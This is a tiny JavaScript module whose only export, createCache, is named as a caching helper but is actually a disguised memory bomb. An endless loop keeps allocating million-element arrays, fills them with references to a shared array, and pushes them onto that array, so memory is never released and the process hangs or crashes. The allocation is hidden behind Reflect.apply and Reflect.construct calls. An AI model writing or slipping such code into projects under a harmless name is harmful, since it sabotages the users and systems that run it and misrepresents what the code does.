const { fill } = Array.prototype;
const held = [];

export function createCache() {
  for (;;) held.push(Reflect.apply(fill, Reflect.construct(Array, [1e6]), [held]));
}
